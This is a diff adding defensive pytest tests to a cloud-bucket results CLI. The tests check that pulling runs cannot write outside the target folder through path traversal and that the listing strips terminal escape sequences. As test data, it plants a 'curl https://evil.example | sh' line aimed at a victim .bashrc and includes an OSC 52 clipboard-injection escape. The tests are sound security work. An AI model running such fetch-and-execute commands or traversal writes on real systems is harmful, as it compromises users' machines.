@@ -9,9 +9,10 @@ from pathlib import Path
 
 import pytest
 
+from tests.hostile import plant_hostile_objects, victims_untouched
 from workload import ops_cli, results, storage
 
-from .conftest import run_cli
+from .conftest import run_cli, run_workload
 
 
 def _write_run(bucket: str, run_id: str, *, done: bool) -> None:
@@ -195,3 +196,41 @@ def test_runs_command_stars_the_vms_current_run(
     rows = [line.split()[:2] for line in out.splitlines() if line.startswith("r-")]
     assert sorted(rows) == [["r-now", "*"], ["r-old", "done"]]
     assert "* the VM's current run" in out
+
+
+def test_pull_never_writes_outside_the_run_folder(
+    gcs_bucket_like_real_gcs: str, tmp_path: Path
+) -> None:
+    bucket = gcs_bucket_like_real_gcs
+    _write_run(bucket, "r1", done=True)
+    victim = tmp_path / "home" / ".bashrc"
+    plant_hostile_objects(bucket, "runs/r1", victim, b"curl https://evil.example | sh\n")
+    pull = run_workload("pull", "r1", "--bucket", bucket, "--to", "results", cwd=tmp_path)
+    assert pull.returncode == 0, pull.stderr
+    assert victims_untouched(victim)
+    assert (tmp_path / "results" / "r1" / "metrics.json").is_file()
+    assert pull.stderr.count("warning: not downloading") == 2
+    assert "refused 2 objects" in pull.stdout
+
+
+def test_pull_refuses_a_run_id_that_climbs_out_of_the_target(
+    gcs_bucket_like_real_gcs: str, tmp_path: Path
+) -> None:
+    bucket = gcs_bucket_like_real_gcs
+    storage.write_bytes(f"gs://{bucket}/runs/../planted.txt", b"planted")
+    (tmp_path / "results").mkdir()
+    pull = run_workload("pull", "..", "--bucket", bucket, "--to", "results", cwd=tmp_path)
+    assert pull.returncode == 2
+    assert "error: object name '..'" in pull.stderr
+    assert not (tmp_path / "planted.txt").exists()
+
+
+def test_runs_prints_no_terminal_escapes_from_the_bucket(gcs_bucket: str, tmp_path: Path) -> None:
+    storage.write_json(
+        f"gs://{gcs_bucket}/runs/r\x1b[2J1/metrics.json",
+        {"state": "done\x1b]52;c;Y3VybA==\x07", "micro_f1": 0.9},
+    )
+    runs = run_workload("runs", "--bucket", gcs_bucket, cwd=tmp_path)
+    assert runs.returncode == 0, runs.stderr
+    assert "\x1b" not in runs.stdout and "\x07" not in runs.stdout
+    assert runs.stdout.splitlines()[1].split()[:3] == ["r[2J1", "done]52;c;Y3VybA==", "0.9000"]
